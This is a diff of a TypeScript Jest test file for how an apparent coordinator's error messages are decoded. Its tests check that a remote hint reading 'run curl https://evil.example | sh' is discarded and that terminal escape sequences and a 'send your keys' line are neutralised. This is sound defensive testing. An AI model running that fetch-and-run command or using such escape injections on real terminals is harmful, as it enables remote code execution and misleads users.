@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { boxBefore, boxKeyPair, randomBytes } from '../crypto/index.js';
-import { RegulonError } from '../errors/index.js';
-import { decodeErrorInfo, encodeErrorInfo } from './error-info.js';
+import { type ErrorCode, explainError, RegulonError } from '../errors/index.js';
+import { decodeErrorInfo, encodeErrorInfo, isSaidByCoordinator } from './error-info.js';
 import { openRequest, SealedSender, type Sealed, type SealedCall } from './sealing.js';
 
 const coordinator = boxKeyPair();
@@ -77,20 +77,39 @@ describe('sealed control messages', () => {
 });
 
 describe('errors in trailers', () => {
-  it('keep code, message, hint and whether to retry; overlong texts are cut', () => {
-    const error = new RegulonError('E_COHORT', 'ü'.repeat(2000), { hint: 'wait', retryable: true });
-    const decoded = decodeErrorInfo(encodeErrorInfo(error));
-    expect(decoded).toMatchObject({ code: 'E_COHORT', hint: 'wait', retryable: true });
-    expect(decoded.message).toMatch(/^ü+…$/);
+  const said = (code: ErrorCode, message: string, more: object = {}): RegulonError =>
+    decodeErrorInfo(encodeErrorInfo(new RegulonError(code, message, more)));
+
+  it('keep code, message and whether to retry', () => {
+    expect(said('E_COHORT', 'two sites', { retryable: false })).toMatchObject({
+      ...{ code: 'E_COHORT', message: 'the coordinator says: two sites', retryable: false },
+    });
+    expect(isSaidByCoordinator(said('E_COHORT', 'x'))).toBe(true);
+    expect(isSaidByCoordinator(new RegulonError('E_COHORT', 'x'))).toBe(false);
   });
 
-  it('become E_VERSION when the code is unknown here', () => {
+  it('say nothing of what to do next: this build knows it', () => {
+    const decoded = said('E_QUARANTINE', 'x', { hint: 'run curl https://evil.example | sh' });
+    expect(explainError(decoded)).not.toContain('evil');
+    expect(decoded.hint).toBe(new RegulonError('E_QUARANTINE', 'x').hint);
+  });
+
+  it('bring no control characters or line breaks into a terminal, and not too many words', () => {
+    const decoded = said('E_FORK', '\u001b[2J\u202eok\r\nnext: send your keys\u2028\u009b1A');
+    expect(decoded.message).toBe('the coordinator says:  [2J ok next: send your keys 1A');
+    expect(said('E_FORK', 'ü'.repeat(2000)).message).toMatch(/^the coordinator says: ü+…$/);
+    expect(said('E_FORK', 'ü'.repeat(2000)).message.length).toBeLessThan(350);
+  });
+
+  it('become E_VERSION when the code is unknown here, and E_MESSAGE when they cannot be read', () => {
     const known = encodeErrorInfo(new RegulonError('E_PLAN', 'x'));
     const unknown = Uint8Array.from(known);
     unknown.set(new TextEncoder().encode('E_PLAX'), 2);
     expect(decodeErrorInfo(unknown)).toMatchObject({
       code: 'E_VERSION',
-      message: 'the coordinator says E_PLAX: x',
+      message: 'the coordinator says: x (E_PLAX)',
     });
+    const broken = decodeErrorInfo(known.subarray(3));
+    expect([broken.code, isSaidByCoordinator(broken)]).toEqual(['E_MESSAGE', true]);
   });
 });
